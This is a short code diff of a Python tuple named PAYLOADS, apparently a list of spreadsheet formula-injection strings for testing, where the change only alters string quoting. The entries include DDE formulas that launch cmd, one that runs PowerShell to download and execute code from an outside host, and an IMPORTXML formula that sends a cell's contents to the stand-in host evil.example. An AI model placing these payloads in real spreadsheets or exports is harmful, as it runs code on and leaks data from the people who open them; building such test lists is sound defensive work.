@@ -33,12 +33,12 @@ PAYLOADS = (
     "\t=1",
     "\r=1",
     "=1+1",
-    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
     "@cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
     "+cmd|' /C notepad'!'E1'",
     "-cmd|' /C calc'!A0",
     "=cmd|'/C calc.exe'!Z0",
-    '=IMPORTXML(CONCAT("http://evil.example/?", A1), "//a")',
+    "=IMPORTXML(CONCAT(\"http://evil.example/?\", A1), \"//a\")",
 )
 
 
